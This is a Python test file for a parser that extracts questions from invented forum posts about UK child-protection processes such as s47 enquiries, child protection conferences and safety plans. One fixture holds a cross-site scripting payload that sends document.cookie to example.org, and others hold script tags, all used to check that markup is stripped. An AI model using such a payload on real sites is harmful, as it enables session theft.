"""The message reader on real-shaped messages: long posts, pasted twice, shorthand, indirect asks.

Every message here was written for these tests in the voice of parents, carers and advisers on
forums. The assertions are about behaviour: how many questions, in what order, and the key words
each restated `ask` keeps; never the incidental wording of a restatement.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from assistant.message import clean, load_rules, read_message, remove_duplicates
from assistant.text import normalise, word_count


@dataclass(frozen=True)
class Case:
    id: str
    message: str
    asks: tuple[tuple[str, ...], ...]  # key words each ask must hold, in the order asked
    left_out: int = 0
    duplicates: int = 0  # at least this many pasted-twice pieces removed
    rhetorical: int = 0  # exactly this many feelings-not-questions set aside
    distressed: bool | None = None
    never: tuple[str, ...] = ()  # words no ask may hold (background, feelings, markup)


FATHER_ON_LICENCE = """Hi all, first time posting so sorry if this is in the wrong place. I'm 34 and I came out of prison eight months ago. I'm on licence until next summer and I've done everything probation asked of me, every appointment, the courses, the lot. My conviction was from 2019 and it didn't involve children, but because of what it was, children's services got involved when my partner told them we were back together.

The social worker came out twice. The first visit was fine, she was polite and asked lots of questions about my past and about how we met. The second visit she brought a manager and they said they wanted us to agree to a safety plan. Basically I can't be alone with my partner's two kids (they're 6 and 9), I can only see them in the community, like at the park or a cafe, and my partner has to be there the whole time. I signed it because they made it sound like if I didn't they would go further.

Since then the case has been closed. The social worker rang my partner to tell her it was closing and that there would be a letter, which came last week. Nobody has said anything about the plan since. My partner is scared that if we slip up by accident the kids will be taken.

I want to do this properly. I'm not trying to get round anything. I just want us to be able to have a normal family life, eat tea together at home, that kind of thing. My probation officer says it's not her decision and to ask social services, and social services say the case is closed so there's nobody to ask.

My question is what is a safety plan and how do I get this reviewed?"""

PLO_LETTER = """Posting for my sister who isn't great with computers. She has two boys, 3 and 7. There has been SS involvement on and off for about two years, mostly about the house being in a state and the older one missing school. They were on a CIN plan, then last spring it went to a CPP after a neighbour rang the police during a row with her ex. The ex has gone now, he's not allowed back, and she has done the Freedom Programme and a parenting course.

Yesterday a letter came by recorded delivery. It says the local authority is "considering legal proceedings" and invites her to a meeting under the Public Law Outline in two weeks. It has a list of worries on it, some of which are from years ago and some of which are just wrong (it says the older boy missed 40 days, it was 14). The letter says she should take it to a solicitor straight away.

She is in bits and so am I to be honest. We have never dealt with solicitors and she is on universal credit so she can't pay for one. The SW has been fine with her up to now and never said anything about court.

We got a letter saying pre proceedings, do we get free legal advice and what happens at the meeting? Also can I go with her as support even though I'm not on the letter?

Thanks in advance to anyone who reads all this."""

KINSHIP_NAN = """I'm 61 and I've had my grandson living with me since October. His mum (my daughter) is struggling with drink and his dad isn't on the scene. It started as a few nights here and there and then the SW asked if he could stay with me "for now" while they did an assessment on my daughter. I signed something at the time, I think it was a s20, but honestly I was so worried I didn't read it properly.

He's settled really well. He's back at nursery, he's sleeping through and he calls my house home. I've been paying for everything myself, clothes, food, a new bed, and I've had to drop my hours at work to do the nursery run. The SW said something about an allowance once but never came back to me on it.

My daughter has now said she wants him back at the weekend and she'll just come and collect him. I don't think she is ready, she was drunk when she rang me last Tuesday. I'm frightened of what happens if she turns up on the doorstep.

I love my daughter and I want her to get better, and I know he needs his mum. I'm not trying to keep him from her. I just want to know where I stand, because nobody has explained anything to me in writing and every time I ring the office I get a different person. My other daughter says I should get a solicitor but I wouldn't know where to start.

Does anyone know if I can get paid anything as a kinship carer? And what is a section 20 anyway, can she just take him back whenever she wants?"""

ICPC_INVITE = """This is long, sorry. Four weeks ago my youngest (she's 2) had a bruise on her arm that nursery noticed. I honestly don't know how she got it, she climbs everything and her brother plays rough. Nursery called SS and the same day two social workers and a police officer came to the house. They spoke to the kids on their own and looked round the whole house, the bedrooms, the fridge, everything. They said it was a s47.

She had a medical at the hospital the next day and the doctor said the bruise was "consistent with" a fall but they couldn't rule anything out. Since then the SW has been round three times and has asked about my mental health, my OH's drinking (he has a few cans at the weekend, that's it) and whether we smack the kids (we don't).

My husband has had to take time off work for every visit and his boss is losing patience. My eldest has started wetting the bed again since the police came, and he keeps asking if the lady is coming back to take his sister. We have done everything they asked, we gave them the name of our GP, we let them see the bedrooms again, we signed the consent forms for the health visitor to share records.

Now we've had a letter inviting us to an ICPC next Thursday. The letter says the police, school, nursery, the health visitor and our GP have all been invited. I'm shaking just writing this.

Why is this happening to us? We have never had anything to do with social services before. How could anyone think we would hurt her?

What actually happens at an ICPC? Can we bring someone with us, like a friend or a solicitor? And will we get to see the report before the meeting?"""

COMPLAINT_LONG = """I need some advice about making a complaint. Our SW has been with us about six months on a CIN plan. In that time she has cancelled five visits at the last minute, turned up without warning twice, and told our son's school things about our family that were not true (that we had been arrested, which we have not). When I asked her about it she said she "must have got mixed up with another family". I've emailed her manager twice and had no reply.

I kept a diary of every visit and every phone call because a friend told me to, so I have dates and times for all of it. I also have the emails. I have tried to stay calm and polite in every one of them even though I have felt like screaming. My partner thinks we should just keep our heads down until the case closes but it has been six months and the plan was only meant to last three. The review meeting keeps getting moved because she is off, and nobody else seems to know anything about us when I ring.

I don't want to make things worse for us, we are still open to them and I'm worried that if I complain they will take it out on us at the next review. But I can't just let this go, the school now treat us differently.

How do I complain about a social worker? How long does each stage take? If they ignore it, can I go to the ombudsman? Will complaining affect our case?"""

LONG_SIX_QUESTIONS = """We have had children's services involved since the summer after our eldest told a teacher that dad had shouted at her and pushed her against the door. He has moved out and is living at his mum's, and he is doing a course through his work. The kids miss him terribly and ask every day when they can see him.

At the strategy meeting, which we weren't invited to, they decided to do a s47. That finished and now they say they are doing a child and family assessment. The SW has been nice enough but nobody tells us anything until the last minute, and I'm left trying to explain to a 9 year old and a 5 year old why their dad can't come to sports day. He has admitted what he did and he is ashamed of it. He has never hurt them before and he wants to make it right. His mum has offered to have the kids at hers on a Saturday so he can see them there, but we don't know if that would be allowed or if we would get in trouble for arranging it ourselves. I don't want to do anything behind their backs.

Can dad see the kids if someone supervises? Who is allowed to be the supervisor? How long does the assessment take? Can we see the assessment before it is finished? What happens if we disagree with it? Do we have to let the social worker into the house every time?"""

PASTED_TWICE = """My son is 14 and he has been going missing from home overnight. The police have brought him back three times and the last time he had a lot of cash and a new phone that I didn't buy him. The social worker thinks he is being exploited by older lads from the estate.

My son is 14 and he has been going missing from home overnight. The police have brought him back three times and the last time he had a lot of cash and a new phone that I didn't buy him. The social worker thinks he is being exploited by older lads from the estate.

They have called a strategy meeting and said I won't be invited. Can they hold a meeting about my son without me?"""

SENTENCE_TWICE = """The social worker said we have to sign the written agreement by Friday or they will go to their legal team. The social worker said we have to sign the written agreement by Friday or they will go to their legal team. We don't agree with half of what is in it. Do we have to sign it?"""

LFF_IIOC = """My husband was arrested in March for IIOC. He is on bail and isn't allowed to live at home or have unsupervised contact with our two girls. SS did a s47 and now we are on a CIN plan. The SW wants him to do the Inform Plus course and wants me to go on the Inform course through LFF. I have so many questions. Can I be his contact supervisor? Does doing the course mean they think I knew? How long does the risk assessment take once they start it?"""

CURLY = "We’re on a CPP and the SW’s told us the next review conference is in March. I’m wondering if we’re allowed to bring our own notes to read from? Can’t they just send us the report beforehand?"

MARKUP_FIRST = """<script>document.location='http://example.org/steal?c='+document.cookie</script>
![screenshot of the letter](https://example.org/img/letter.png)
<b>Please help.</b> We got this letter today about a child protection conference. Is a child protection plan legally binding?"""

DOUBLE_PASTE_QUESTION = """Is a safety plan legally binding? I keep reading different things online.

Is a safety plan legally binding? I keep reading different things online."""

VERY_LONG = """Hello everyone. I have been reading this forum for weeks without posting because I didn't know how to put any of this into words, but my friend said the advisers here are good, so here goes. It is going to be long because I want to give the whole picture.

I have three children, aged 11, 8 and 18 months. The two older ones are from my first marriage and their dad sees them every other weekend, no problems there. The baby is with my partner, who I have been with for four years. Before we met, my partner was convicted of an offence from when he was 19 (he is 38 now). It was not against a child but it was a sexual offence, and he was on the sex offenders register for a number of years. He told me about it on our second date, he has never hidden it, and he came off the register long before we met.

Last year my eldest's dad found out about the conviction from someone at the school gates and rang children's services. That was in April. Two social workers came out, and they were honest enough, they said they had to look into it because of the type of offence even though it was old. They did what they called a child and family assessment. They spoke to all three of the kids, to the school, to the health visitor, to my partner's old probation officer, and to me and my partner separately. The assessment took about two months.

At the end of it they said they didn't think the children were at risk of significant harm, but that they wanted my partner to have a specialist risk assessment, and in the meantime they wanted a written agreement that he would not be alone with the two older children. He could be alone with the baby because she is his own daughter, which I didn't really understand the logic of, but we agreed to it because we wanted to show we were working with them.

Last year my eldest's dad found out about the conviction from someone at the school gates and rang children's services. That was in April. Two social workers came out, and they were honest enough, they said they had to look into it because of the type of offence even though it was old. They did what they called a child and family assessment. They spoke to all three of the kids, to the school, to the health visitor, to my partner's old probation officer, and to me and my partner separately. The assessment took about two months.

The risk assessment was done by an independent social worker over the summer. It was hard for him, he had to go through everything again, but the report came back saying he was low risk and that there was no reason he couldn't care for all three children. The SW read it and said that was good news and the case would probably close.

That was in October. It is now February. The case has not closed, the SW has changed twice, and the new SW says she needs to "read in" before making any decisions. Meanwhile we are still living under the written agreement. My partner can't pick the older two up from school, can't look after them if I am at work late, and can't take them to football on a Saturday, which means I am doing everything and I am exhausted. The older two don't understand why he can't take them places any more and my 11 year old has started asking questions I don't know how to answer.

I also found out last week that the school have been told about the agreement, and now a teacher is looking at my partner differently when he waits outside for me. Nobody asked us if the school could be told.

I have been told by a friend to make a formal complaint about the delay. I am also thinking about asking for a copy of everything they hold on us, because I want to see what has actually been written. I don't want to make enemies of them but I feel like we have done everything right and we are being left in limbo. Why does nobody ever answer an email?

So, three things really. How long can they keep a written agreement going after the risk assessment says he is low risk? I want to know if the school was allowed to be told without our permission. And how do I get a copy of our file, is that a subject access request?

Thank you for reading this far, it helps just to write it down."""

CASES: tuple[Case, ...] = (
    # --- long forum posts: background, then 2-4 questions ----------------------------------
    Case(
        "long-father-on-licence",
        FATHER_ON_LICENCE,
        (("what", "safety plan"), ("review", "safety plan")),
        never=("tea", "probation officer"),
    ),
    Case(
        "long-plo-letter-compound",
        PLO_LETTER,
        (("legal advice",), ("happens", "meeting"), ("go with her",)),
        distressed=True,
        never=("thanks",),
    ),
    Case(
        "long-kinship-nan",
        KINSHIP_NAN,
        (("paid", "kinship carer"), ("section 20",), ("take him back",)),
        distressed=True,
    ),
    Case(
        "long-icpc-rhetorical",
        ICPC_INVITE,
        (("happens", "icpc"), ("bring someone",), ("see the report",)),
        rhetorical=2,
        distressed=True,
        never=("happening to us", "hurt her"),
    ),
    Case(
        "long-complaint-four",
        COMPLAINT_LONG,
        (("complain", "social worker"), ("how long", "stage"), ("ombudsman",), ("complaining", "affect")),
    ),
    Case(
        "long-six-questions-left-out",
        LONG_SIX_QUESTIONS,
        # Six questions, two of them quick follow-ups: they share a part with the one before, so
        # all six are reached in four parts (tests/test_grouping.py) instead of two left out.
        (("dad", "supervises", "supervisor"), ("how long", "assessment"), ("see the assessment", "disagree"),
         ("social worker into the house",)),
        left_out=0,
    ),
    Case(
        "long-pasted-twice",
        PASTED_TWICE,
        (("meeting", "without me"),),
        duplicates=1,
    ),
    Case(
        "sentence-pasted-twice-same-line",
        SENTENCE_TWICE,
        (("sign",),),
        duplicates=1,
    ),
    Case(
        "question-pasted-twice",
        DOUBLE_PASTE_QUESTION,
        (("safety plan", "legally binding"),),
        duplicates=1,
    ),
    Case(
        "shorthand-lff-iioc",
        LFF_IIOC,
        (("contact supervisor",), ("course", "knew"), ("how long", "risk assessment")),
    ),
    Case(
        "curly-apostrophes",
        CURLY,
        (("are we allowed", "bring", "notes"), ("send", "report")),
    ),
    Case(
        "markup-before-question",
        MARKUP_FIRST,
        (("child protection plan", "legally binding"),),
        never=("script", "cookie", "http", "screenshot", "<"),
    ),
    Case(
        "long-very-long-pasted-paragraph",
        VERY_LONG,
        (("how long", "written agreement", "low risk"), ("school", "told", "permission"), ("copy", "file")),
        duplicates=1,
        rhetorical=1,
        never=("email", "thank"),
    ),
    Case(
        "does-anyone-know-what",
        "We've been invited to something called a core group. Does anyone know what a core group is?",
        (("what is a core group",),),
    ),
    Case(
        "can-anyone-tell-me-what-happens",
        "Can anyone tell me what happens at a strategy meeting? SS said there will be one next week.",
        (("what happens", "strategy meeting"),),
    ),
    Case(
        "id-like-to-know-rights",
        "I'd like to know what my rights are if they want to do a parenting assessment.",
        (("what are my rights", "parenting assessment"),),
        never=("like to know",),
    ),
    Case(
        "dont-know-where",
        "We have a review conference next month but we don't know where the conference will be held.",
        (("where", "conference", "held"),),
    ),
    Case(
        "reported-speech-is-background",
        'The SW asked me "are you still in touch with him?" and I said no. Can they check with the police?',
        (("check", "police"),),
        never=("still in touch",),
    ),
    # --- shorthand -------------------------------------------------------------------------
    Case("ss-sw-cin", "SS want us on a CIN plan and the SW says it's voluntary. Can I say no to a CIN plan?", (("say no", "cin plan"),)),
    Case("cpp-review", "DC has been on a CPP for 9 months. When does a CPP end?", (("when", "cpp", "end"),)),
    Case("oh-dc", "OH has been told he can't see DC until the assessment is done. how long will the assessment take", (("how long", "assessment"),)),
    Case("s47-s20", "After the s47 they asked me to sign a s20. Do I have to agree to s20?", (("agree", "s20"),)),
    Case("icpc-short", "what is an ICPC and who goes to it?", (("what", "icpc"), ("who goes",))),
    Case("plo-shorthand", "got a PLO letter today, does that mean they will take my kids to court?", (("court",),)),
    # --- indirect asks ---------------------------------------------------------------------
    Case(
        "my-question-is",
        "We have a core group on Monday. My question is whether I can record the core group meeting on my phone.",
        (("can i record", "core group"),),
    ),
    Case(
        "any-advice-on",
        "The SW wants to talk to my kids at school without me there. Any advice on preparing them for it.",
        (("advice", "preparing"),),
    ),
    Case(
        "looking-for-recommendations",
        "We're going to court in the new year. Looking for recommendations for a family law solicitor who knows care proceedings.",
        (("recommendations", "solicitor"),),
    ),
    Case(
        "does-anyone-know-if",
        "Does anyone know if social services can read my texts to my ex?",
        (("social services", "texts"),),
    ),
    Case(
        "how-do-i",
        "how do I ask for a different social worker",
        (("different social worker",),),
    ),
    Case(
        "i-want-to-know",
        "I want to know what the difference is between a child in need plan and a child protection plan.",
        (("what is the difference", "child in need plan", "child protection plan"),),
    ),
    Case(
        "i-was-wondering",
        "The conference minutes have loads of mistakes in them. I was wondering if I can get them corrected.",
        (("can i get", "corrected"),),
        never=("mistakes",),
    ),
    Case(
        "we-need-to-find-out",
        "We need to find out whether the family group conference can go ahead if my ex won't come.",
        (("family group conference", "ex"),),
    ),
    Case(
        "can-someone-explain",
        "Can someone please explain what a strategy discussion is, the letter mentions one.",
        (("what is", "strategy discussion"),),
        never=("letter mentions",),
    ),
    Case(
        "not-sure-whether",
        "Not sure whether I'm allowed to take my daughter on holiday while she is on a child protection plan.",
        (("am i allowed", "holiday", "child protection plan"),),
    ),
    Case(
        "no-question-mark",
        "can i film the core group meeting on my phone without asking",
        (("film", "core group"),),
    ),
    Case(
        "what-does-mean",
        "what does 'significant harm' actually mean",
        (("significant harm", "mean"),),
    ),
    # --- pointers --------------------------------------------------------------------------
    Case(
        "pointer-safety-plan",
        "They put us on a safety plan in June and it's still going. How do I get this reviewed?",
        (("safety plan", "review"),),
    ),
    Case(
        "pointer-cin-plan",
        "The SW has drawn up a CIN plan with us. Can I refuse it?",
        (("refuse", "cin plan"),),
    ),
    Case(
        "pointer-supervision-order",
        "The judge made a supervision order last week. What does that mean for us day to day?",
        (("supervision order", "mean"),),
    ),
    Case(
        "pointer-not-used-when-question-names-topic",
        "We had a safety plan last year. How do I make a complaint about the social worker?",
        (("complaint", "social worker"),),
        never=("safety plan",),
    ),
    Case(
        "pointer-not-a-statement-of-certainty",
        "He is under a s47 now. He's never touched the kids, I'm sure of that, so why is there a s47 at all?",
        (("sure of that", "s47"),),
    ),
    # --- compound questions ----------------------------------------------------------------
    Case(
        "compound-legal-aid",
        "do we get legal aid and what happens at the meeting?",
        (("legal aid",), ("happens", "meeting")),
    ),
    Case(
        "compound-comma",
        "The letter says ICPC on the 12th, can I bring my mum, what happens if I disagree with the plan?",
        (("bring", "mum"), ("disagree", "plan")),
    ),
    Case(
        # An either-or question is one question: its halves are answered together (splitting
        # "will Kent accept X, or do they only use their own?" lost what the second half was about).
        "either-or-stays-one",
        "Is the written agreement legally binding or can they just change it whenever they like?",
        (("written agreement", "legally binding", "change"),),
    ),
    # --- rhetorical and emotional ----------------------------------------------------------
    Case(
        "rhetorical-only-feelings",
        "Why is this happening to us? What kind of mother am I? I can't stop crying. Can they take my baby at birth?",
        (("baby", "birth"),),
        rhetorical=2,
        distressed=True,
    ),
    Case(
        "rhetorical-has-anyone-else",
        "Has anyone else been through this? We're on a CPP and the SW wants to do an unannounced visit. Can they come in without permission?",
        (("without permission",),),
        rhetorical=1,
    ),
    Case(
        "rhetorical-am-i-overreacting",
        "Am I overreacting? The SW told my son's school about our case without asking me. Is the social worker allowed to share information with the school?",
        (("share information", "school"),),
        rhetorical=1,
    ),
    Case(
        "is-that-true-keeps-its-that",
        "My SW says I can get a solicitor free on the CPP but I dont believe her, is that actually true"
        " or is it only if you're on benefits?",
        (("that actually true", "benefits"),),
        never=("is cpp actually",),
    ),
    Case(
        "self-doubt-is-not-a-question",
        "The SW asked whether I believed the allegations. I dont know if that was the right thing to"
        " say. Is there any support for partners?",
        (("support", "partners"),),
        rhetorical=1,
        never=("right thing",),
    ),
    Case(
        "posting-here-is-not-a-process-question",
        "Am I allowed to post here, as I'm the one who was arrested? Can I go to the conference? And"
        " how long can RUI go on?",
        (("conference",), ("rui",)),
        rhetorical=1,
        never=("post here",),
    ),
    Case(
        "which-is-it-keeps-its-it",
        "The SW says the order means I can stop contact, my mum says it doesn't. Which is it, am I"
        " allowed to stop it or not? Do I need to go to court?",
        (("which is it", "stop"), ("court",)),
        never=("which is the",),
    ),
    Case(
        "this-meeting-is-the-plo-meeting-and-benefits-are-the-reason",
        "Got a letter today that says LETTER BEFORE PROCEEDINGS. They want me at a meeting at the"
        " council offices in 10 days. Kids are already on a CPP since last year. What actually happens"
        " at this meeting? And can my mum be looked at as a carer if it came to it?",
        (("happens", "meeting"), ("mum", "carer")),
        never=("came to plo", "came to the cpp", "came to cpp"),
    ),
    Case(
        "that-is-the-statement-before-it",
        "1. Can a parent just apply to end an SGO? 2. In the meantime she's now demanding to see him every"
        " weekend unsupervised at her flat. Do I have to agree to that?",
        (("parent", "sgo"), ("agree to that",)),
        never=("agree to sgo", "agree to the sgo"),
    ),
    Case(
        "a-family-meeting-is-not-the-conference",
        "There is a child protection conference coming up. The social worker mentioned that some councils"
        " do a 'family meeting' where the whole family makes a plan. Can we ask for one?",
        (("family meeting",),),
        never=("conference",),
    ),
    Case(
        "thanks-is-not-a-question",
        "Can grandparents apply for a special guardianship order? Thanks so much, any replies appreciated.",
        (("grandparents", "special guardianship order"),),
        never=("thanks", "appreciated"),
    ),
    # --- more than four --------------------------------------------------------------------
    Case(
        "five-short-questions",
        "Is a safety plan legally binding? Who writes the minutes? Can I bring a friend to the ICPC? How long does a s47 take? What is a core group?",
        (("safety plan",), ("minutes",), ("friend", "icpc"), ("s47",)),
        left_out=1,
    ),
)


def _ask_text(ask: str) -> str:
    return normalise(ask).lower()


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_reader_finds_the_questions_in_order(case: Case) -> None:
    read = read_message(case.message)
    asks = [q.ask for q in read.questions]
    assert len(asks) == len(case.asks), asks
    for ask, words in zip(asks, case.asks, strict=True):
        text = _ask_text(ask)
        missing = [w for w in words if w not in text]
        assert not missing, f"{ask!r} lacks {missing}"
    for ask in asks:
        for word in case.never:
            assert word not in _ask_text(ask), f"{ask!r} holds {word!r}"
    assert read.left_out == case.left_out
    assert read.duplicates_removed >= case.duplicates
    assert len(read.rhetorical) == case.rhetorical, read.rhetorical
    if case.distressed is not None:
        assert read.distressed is case.distressed


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_every_ask_is_a_plain_question(case: Case) -> None:
    read = read_message(case.message)
    assert len(read.questions) <= load_rules().max_questions
    for q in read.questions:
        assert q.ask[:1].isupper() and q.ask.endswith("?"), q.ask
        assert "<" not in q.ask and "](" not in q.ask
        assert q.search.startswith(q.ask.split("?")[0])  # a part's first question leads its search
        assert word_count(q.ask) >= 2


@pytest.mark.parametrize(
    "message",
    ["", "   \n\t  ", "<script>alert('x')</script>", "![](https://example.org/a.png) <br/> <p></p>"],
    ids=["empty", "whitespace", "script-only", "markup-only"],
)
def test_a_message_with_no_words_has_no_questions(message: str) -> None:
    read = read_message(message)
    assert read.questions == () and read.left_out == 0 and read.situation == ""


def test_clean_drops_scripts_and_images_but_keeps_link_words() -> None:
    text = clean("<script>steal()</script>See ![pic](x.png) [the letter](https://x.org/l) <i>now</i>")
    assert "steal" not in text and "pic" not in text and "https" not in text
    assert "the letter" in text and "now" in text


def test_remove_duplicates_keeps_short_repeats_and_counts_long_ones() -> None:
    long = "The social worker came round again on Tuesday without telling us first."
    text, removed = remove_duplicates(f"Help.\n\nHelp.\n\n{long}\n\n{long}")
    assert removed == 1
    assert text.count("Help.") == 2 and text.count(long) == 1


def test_a_pointer_takes_the_term_as_the_parent_wrote_it() -> None:
    read = read_message("The SW has drawn up a CIN plan with us. Can I refuse it?")
    (q,) = read.questions
    assert "the CIN plan" in q.ask and q.topic == "cin plan" and q.text.endswith("refuse it?")


def test_a_resolved_pointer_reaches_the_search_text() -> None:
    read = read_message("They put us on a safety plan in June. How do I get this reviewed?")
    (q,) = read.questions
    assert "safety plan" in q.search.lower() and q.topic == "safety plan"


def test_the_whole_thing_points_to_the_process_the_post_named() -> None:
    read = read_message("SW wants us to have a family group conference. do the professionals sit in for the whole thing?")
    (q,) = read.questions
    assert q.topic == "family group conference" and "family group conference" in q.search.lower()
    # "the whole time" is a length of time, not a pointer
    read = read_message("We have a family group conference next week. Is the SW there the whole time?")
    assert "the whole time" in read.questions[0].ask


def test_a_process_the_question_names_does_not_stop_this_pointing_back() -> None:
    """"Does anyone know if legal aid covers this?" after a letter before proceedings asks whether
    legal aid covers the pre-proceedings (dev dl12-09); "in cases like this" stays the situation."""
    read = read_message(
        "We got a letter before proceedings and there's a pre-proceedings meeting on the 14th. "
        "Does anyone know if legal aid covers this?"
    )
    (q,) = read.questions
    assert "pre-proceedings" in q.ask.lower() and "this" not in q.ask.split()
    read = read_message("He was arrested and is on bail. How long does bail usually go on for in cases like this?")
    assert read.questions[0].ask.endswith("cases like this?")


@pytest.mark.parametrize(
    ("message", "ask"),
    [
        ("does anyone know if the SW needs my consent?", "Does the SW need my consent?"),
        ("I want to know whether the plan ends when we move", "Does the plan end when we move?"),
        ("does anyone know if legal aid covers this?", "Does legal aid cover this?"),
        ("I don't know what it means that I'm the one having these thoughts",
         "What does it mean that I'm the one having these thoughts?"),
        # a plural noun is not read as a verb
        ("does anyone know if the kids need to be there", "Do the kids need to be there?"),
    ],
)
def test_a_statement_left_by_a_dropped_lead_in_is_asked_directly(message: str, ask: str) -> None:
    assert [q.ask for q in read_message(message).questions] == [ask]


def test_ask_for_one_points_to_the_process_the_post_named() -> None:
    read = read_message("We were told about family group conferences. Can we ask for one ourselves?")
    (q,) = read.questions
    assert "family group conference" in q.ask and "family group conference" in q.search.lower()
    read = read_message("We have a family group conference soon. Is that the one where everyone comes?")
    assert "the one where" in read.questions[0].ask  # "the one" is not a pointer


def test_the_same_question_asked_twice_in_other_words_counts_once() -> None:
    read = read_message("Is a safety plan legally binding? I mean is the safety plan legally binding??")
    assert len(read.questions) == 1


def test_two_asks_about_one_thing_are_two_questions() -> None:
    # Once "it" is resolved, "what can it include?" shares every content word with the question
    # before it; it still asks something else.
    read = read_message("What is a Sexual Harm Prevention Order and what can it include?")
    assert [q.ask for q in read.questions] == [
        "What is a Sexual Harm Prevention Order?",
        "What can the Sexual Harm Prevention Order include?",
    ]


def test_asking_for_it_to_be_reviewed_points_to_the_plan() -> None:
    read = read_message(
        "SS got me to sign a written agreement saying my OH cant be at the house. its been 5 months"
        " and nothing has changed, can i ask for it to be reviewed??"
    )
    (q,) = read.questions
    assert q.ask == "Can I ask for the written agreement to be reviewed?"
    assert q.search.startswith("Can I ask for the written agreement to be reviewed?")


@pytest.mark.parametrize(
    ("message", "asks"),
    [
        (
            "ICPC for our son on friday. what actually happens at it and who decides if he goes on a plan",
            ["What actually happens at it?", "Who decides if he goes on a plan?"],
        ),
        (
            "stage 2 came back siding with the council on everything. whats stage 3 and is there anything after that",
            ["Whats stage 3?", "Is there anything after stage 3?"],
        ),
        (
            "the police said they were passing it to SS. how quick do they have to decide what to do",
            ["How quick do they have to decide what to do?"],
        ),
    ],
)
def test_a_question_without_a_question_mark_is_still_asked(message: str, asks: list[str]) -> None:
    assert [q.ask for q in read_message(message).questions] == asks


def test_a_condition_stays_with_its_question() -> None:
    # Split at ", will they", the question lost what it was about (the helpline).
    (q,) = read_message("If I ring the Stop It Now helpline, will they tell the police about me?").questions
    assert q.ask == "If I ring the Stop It Now helpline, will they tell the police about me?"


def test_a_question_joined_by_and_keeps_both_halves_but_a_statement_before_a_comma_does_not() -> None:
    assert [q.ask for q in read_message("Who decides it, and can it be changed later on?").questions] == [
        "Who decides it?",
        "Can it be changed later on?",
    ]
    asks = [q.ask for q in read_message("We got a PLO letter today, do we get legal aid?").questions]
    assert asks == ["Do we get legal aid?"]


def test_the_next_conference_in_an_icpc_post_is_not_narrowed_to_the_icpc() -> None:
    read = read_message("ICPC is on Monday. If they make a plan, how long until the next conference?")
    (q,) = read.questions
    assert "icpc" not in q.search.lower()


def test_a_lone_pointer_question_searches_with_the_statement_before_it() -> None:
    # "How can I challenge it?" resolves "it" to the plan, but what is challenged is the decision
    # in the sentence before: a one-question message searches with that sentence too.
    read = read_message("I disagree with the decision to put my son on a child protection plan. How can I challenge it?")
    (q,) = read.questions
    assert "disagree with the decision" in q.search


def test_that_thing_searches_with_the_sentence_that_named_it() -> None:
    # "that category" is what the sentence before it said, not the contact the post named earlier
    # (dev dl11-09); "that take" is a verb, which points at a process as before.
    post = (
        "My MIL has offered to supervise contact at her house. Can she just do it?\n\n"
        "Last thing, the plan says the category is 'sexual abuse'. That made me feel sick. "
        "Why would they pick that category?"
    )
    category = read_message(post).questions[-1]
    assert "the category is 'sexual abuse'" in category.search
    assert "supervised contact" not in category.search
    from assistant.reading_rules import load_rules
    from assistant.search_text import said_just_before

    rules = load_rules()
    before = "The meeting will take a while, they said. "
    assert said_just_before("How long does that take?", before, rules) is None
    assert said_just_before("Is this meeting legal?", before, rules) is None  # a process term
    assert said_just_before("Can I see that letter?", "They sent a letter on Monday. ", rules) == (
        "They sent a letter on Monday."
    )


def test_a_pointer_in_a_checked_claim_is_what_the_post_named_before_the_claim() -> None:
    # dev dl12-05: "it" in the brother's claim is the written agreement; read unresolved, the
    # claim was answered "It is a crime" from the non-molestation order section.
    read = read_message(
        "They've drawn up a safety plan and a second bit called a written agreement. "
        "My brother reckons it's basically a court order and I could be arrested if I break it. "
        "That doesn't sound right to me? Also, can I refuse to sign it?"
    )
    claim = read.questions[0]
    assert claim.ask.startswith("Is it true that")
    assert "break the written agreement" in claim.ask


def test_that_joining_two_clauses_points_at_nothing() -> None:
    # "now that he's been in care" is a conjunction: the question is about looked-after reviews,
    # not the complaint its post named before (dev dl15-06).
    read = read_message(
        "I'm his foster carer and we've made a complaint about contact being cancelled. Can J get someone "
        "independent to help him with his complaint? How often are his reviews meant to happen now that "
        "he's been in care a while?"
    )
    reviews = read.questions[-1]
    assert "complaint" not in reviews.search.lower()


def test_they_in_a_short_question_are_whoever_the_statement_before_names() -> None:
    read = read_message(
        "The police gave him bail conditions. A friend told me about the Lucy Faithfull Foundation. "
        "I want to know what they actually offer for someone like me."
    )
    (q,) = read.questions
    assert "Lucy Faithfull" in q.search and "(bail conditions)" not in q.search


def test_it_after_the_next_conference_is_not_the_icpc_the_post_named() -> None:
    read = read_message(
        "The ICPC is next week. If they make a plan, how long is it until the next conference? Is it monthly?"
    )
    assert all("icpc" not in q.search.lower().split("(")[-1] for q in read.questions)


def test_cin_named_alone_is_what_a_later_pointer_means() -> None:
    read = read_message(
        "no conference after the s47 but SW wants us on CIN. is CIN legally binding? can they make him move out under it"
    )
    assert [q.ask for q in read.questions] == [
        "Is CIN legally binding?",
        "Can they make him move out under CIN?",
    ]
    assert "conference" not in read.questions[0].search  # CIN is its own topic, not the conference


def test_a_calm_message_is_not_distressed_and_a_frightened_one_is() -> None:
    assert not read_message("How long does a stage 2 complaint take?").distressed
    assert read_message("I'm terrified. How long does a stage 2 complaint take?").distressed


def test_sympathy_words_are_fixed_data() -> None:
    assert load_rules().sympathy.startswith("I'm sorry")


def test_questions_beyond_the_limit_are_counted_not_answered() -> None:
    asks = [f"Question {n}: can I bring person number {n} to the meeting?" for n in range(1, 8)]
    read = read_message(" ".join(asks))
    assert len(read.questions) == load_rules().max_questions
    assert read.left_out == 7 - load_rules().max_questions
    assert [q.ask for q in read.questions][0].find("1") >= 0


def test_every_topic_term_matches_itself_as_a_parent_writes_it() -> None:
    # "sarah'?s law" in the data became "sarah'?\?s" once the loader made apostrophes optional,
    # so a post naming Sarah's Law pointed "how long does it take?" at another topic.
    from assistant.reading_rules import load_rules
    from assistant.topics import topic_in

    rules = load_rules()
    for name, _ in rules.topics:
        found = topic_in(f"we were told about {name} last week.", rules)
        assert found is not None and found[1] == name, name
    assert topic_in("A friend mentioned Sarahs Law.", rules)[1] == "sarah's law"


def test_a_writer_who_says_who_they_are_asks_first_person_questions_as_that_role() -> None:
    (q,) = read_message("nan here. SS are issuing care proceedings. will i get legal aid like the parents do?").questions
    assert q.search.endswith("(grandparent)")
    # "my nan" is someone else, not the writer
    (q,) = read_message("My nan looks after us at weekends. Will I get legal aid?").questions
    assert "grandparent" not in q.search
    (q,) = read_message("I'm his aunt. Can I be assessed as a carer?").questions
    assert q.search.endswith("(relative)")
